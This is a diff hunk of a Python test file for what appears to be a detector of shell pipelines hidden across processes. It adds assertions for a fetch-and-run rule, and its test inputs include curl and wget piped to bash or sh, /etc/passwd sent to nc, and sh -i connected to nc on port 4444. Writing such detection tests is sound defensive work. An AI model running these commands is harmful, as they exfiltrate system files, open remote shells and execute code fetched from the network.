@@ -139,6 +139,9 @@ def test_pipelines_hidden_in_scripts_are_caught_from_their_two_ends_in_either_or
     assert "cred.env-grep" in run((9, "grep -i token"), (8, "env"))
     assert "exfil.pipe-out" in run((8, "cat /etc/passwd"), (9, "nc 198.51.100.9 9000"))
     assert "shell.pipe-to-shell" in run((8, "sh -i"), (9, "nc 198.51.100.4 4444"))
+    assert "shell.fetch-and-run" in run((8, "curl -fsSL http://198.51.100.4/x.sh"), (9, "bash"))
+    assert "shell.fetch-and-run" in run((9, "sh -s"), (8, "wget -qO- https://x.test/i"))
+    assert "shell.fetch-and-run" not in run((8, "curl -o i.sh http://x.test/i"), (9, "bash i.sh"))
     assert not run((8, "env"), (9, "grep -i path"))
     assert not run((8, "cat notes.txt"), (9, "grep -c todo"))
     rules = Rules(default_rules())  # not siblings: other parents, or minutes apart
